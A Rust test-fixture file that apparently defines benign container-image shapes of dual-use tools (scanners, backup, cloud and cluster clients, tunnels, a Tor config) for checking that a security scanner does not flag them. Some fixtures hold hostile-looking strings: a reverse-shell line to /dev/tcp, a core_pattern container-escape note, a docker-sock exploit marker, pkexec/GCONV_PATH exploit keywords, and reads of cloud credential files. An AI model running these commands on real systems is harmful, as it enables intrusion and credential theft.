//! Tools whose purpose is near to what attackers use.

use crate::group;
use crate::programs;
use crate::shape::{Planted, Shape, clean};
use test_support::standin;

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "tools",
        vec![
            clean("scanner of images with its word list", |_| {
                Planted::scratch()
                    .script("usr/local/bin/scan", programs::scanner())
                    .entry(&["/usr/local/bin/scan"])
                    .cmd(&["--help"])
            }),
            clean("scanner of networks with its scripts", |_| {
                Planted::debian()
                .script("usr/local/bin/portscan", standin::program("an honest scanner of ports"))
                .file("usr/share/portscan/scripts/http-shell.nse", "description = [[ Looks for bash -i >& /dev/tcp/HOST/PORT 0>&1 in answers ]]\nportrule = shortport.http\n")
                .entry(&["portscan"])
            }),
            clean("backup with all its stores", |_| {
                Planted::debian()
                .script("usr/local/bin/entry.sh", "#!/bin/sh\nset -eu\nif [ -f ~/.aws/credentials ]; then export AWS_SHARED_CREDENTIALS_FILE=~/.aws/credentials; fi\nexec rclone sync /data remote:bucket --config ~/.config/rclone/rclone.conf\n")
                .entry(&["entry.sh"])
            }),
            clean("client of a cloud", |_| {
                Planted::debian().script("usr/local/bin/cloud", "#!/usr/bin/env python3\nimport os\nPATHS = ['~/.aws/credentials', '~/.aws/config', '~/.kube/config']\nprint([p for p in PATHS if os.path.exists(os.path.expanduser(p))])\n").entry(&["cloud"])
            }),
            clean("operator that uses the cluster's interface", |_| {
                Planted::debian().script("usr/local/bin/operator.sh", "#!/bin/sh\nwhile true; do kubectl get pods -o json | jq -r '.items[].metadata.name' > /tmp/pods; kubectl annotate pods --all seen=true --overwrite; sleep 60; done\n").entry(&["operator.sh"])
            }),
            clean("watcher of the engine that reads only", |_| {
                Planted::debian().script("usr/local/bin/watch.sh", "#!/bin/sh\nwhile sleep 10; do curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json > /srv/state.json; done\n").entry(&["watch.sh"])
            }),
            clean("load generator", |_| {
                Planted::debian()
                    .script(
                        "usr/local/bin/load",
                        "#!/bin/sh\nexec wrk -t4 -c100 -d30s \"${TARGET:?set TARGET}\"\n",
                    )
                    .entry(&["load"])
            }),
            clean("tuning of a database host", |_| {
                Planted::debian().script("usr/local/bin/tune", "#!/bin/sh\nset -e\npages=$(( SHARED_BUFFERS_MB / 2 + 64 ))\nsysctl -w vm.nr_hugepages=$pages\nsysctl -w vm.overcommit_memory=2\nexec \"$@\"\n").entry(&["tune"]).cmd(&["python3"])
            }),
            clean("name service updater", |_| {
                Planted::debian().script("usr/local/bin/ddns", "#!/bin/sh\nwhile true; do IP=$(curl -s https://ifconfig.me); curl -s -X PUT \"https://dns.example/update?host=$HOSTNAME&ip=$IP\" -H \"Authorization: Bearer $TOKEN\"; sleep 300; done\n").entry(&["ddns"])
            }),
            clean("notifier with a hook of its user", |_| {
                Planted::debian().script("usr/local/bin/notify", "#!/bin/sh\ncurl -s -X POST -H 'Content-Type: application/json' -d \"{\\\"text\\\":\\\"$1\\\"}\" \"${WEBHOOK_URL:?}\"\n").entry(&["notify"])
            }),
            clean("client of a database with short options", |_| {
                Planted::debian().entry(&[
                    "psql",
                    "-h",
                    "db.example:5432",
                    "-U",
                    "app",
                    "-o",
                    "/tmp/out",
                    "-k",
                    "-p",
                    "5432",
                ])
            }),
            clean("transfer with short options", |_| {
                Planted::debian().entry(&[
                    "curl",
                    "-o",
                    "/tmp/index.html",
                    "-u",
                    "user:pass",
                    "-k",
                    "--tls-max",
                    "1.3",
                    "https://web.example:443/index.html",
                ])
            }),
            clean("tunnel by a person's own key", |_| {
                Planted::debian().entry(&[
                    "ssh",
                    "-o",
                    "StrictHostKeyChecking=accept-new",
                    "-N",
                    "-L",
                    "5432:db:5432",
                    "-p",
                    "2222",
                    "user@bastion.example",
                ])
            }),
            clean("service over an onion network, openly", |_| {
                Planted::debian()
                    .script("usr/local/bin/tor", standin::program("an honest router"))
                    .file("etc/tor/torrc", "SocksPort 0.0.0.0:9050\nDataDirectory /var/lib/tor\n")
                    .entry(&["tor", "-f", "/etc/tor/torrc"])
            }),
            clean("virtual network", |_| {
                Planted::debian().script("usr/local/bin/start.sh", "#!/bin/sh\niptables -t nat -A POSTROUTING -s 10.8.0.0/24 -o eth0 -j MASQUERADE\nexec openvpn --config /etc/openvpn/server.conf\n").entry(&["start.sh"])
            }),
            clean("wipe of a build's own files", |_| {
                Planted::debian().script("usr/local/bin/clean", "#!/bin/sh\nset -e\nrm -rf /tmp/* /var/tmp/* /var/lib/apt/lists/*\n: > /var/log/dpkg.log\nexec \"$@\"\n").entry(&["clean"]).cmd(&["python3"])
            }),
            clean("exporter of measurements", |_| {
                Planted::debian().script("usr/local/bin/export.py", "#!/usr/bin/env python3\nimport glob\nfor stat in glob.glob('/proc/[0-9]*/stat'):\n    print(open(stat).read().split()[1])\n").entry(&["export.py"])
            }),
            clean("conversion of characters, and a dialog for rights", |_| {
                let convert = ["GCONV_PATH=", "gconv-modules", "gconv-modules.cache", "CHARSET="];
                let dialog = ["/usr/bin/pkexec", "SHELL=", "CHARSET=", "XAUTHORITY="];
                Planted::debian()
                    .script("usr/local/bin/convert", standin::program_with(&convert, 0))
                    .script("usr/local/bin/dialog", standin::program_with(&dialog, 0))
                    .entry(&["convert"])
            }),
            clean("handler of crashes", |_| {
                Planted::debian()
                    .script(
                        "usr/local/bin/crashes",
                        "#!/bin/sh\necho '/cores/core.%e.%P' > /proc/sys/kernel/core_pattern\nexec \"$@\"\n",
                    )
                    .file(
                        "usr/share/doc/crashes/escape.md",
                        "An attacker writes |/proc/%P/root/x to /proc/sys/kernel/core_pattern.\n",
                    )
                    .cmd(&["python3"])
            }),
            clean("client of the container engine", |_| {
                Planted::debian()
                    .script(
                        "usr/local/bin/engine",
                        standin::program_with(
                            &[
                                "/containers/create",
                                "/containers/json",
                                "tcp://127.0.0.1:2375",
                                "docker-sock-pwn",
                            ],
                            0,
                        ),
                    )
                    .entry(&["engine"])
            }),
            clean("emulator for other machines", |_| {
                Planted::debian()
                    .script("usr/local/bin/qemu-arm-static", standin::program("an honest emulator"))
                    .file(
                        "usr/share/binfmts/qemu-arm",
                        "package qemu\ninterpreter /usr/bin/qemu-arm-static\n",
                    )
                    .entry(&["qemu-arm-static"])
            }),
        ],
    )
}
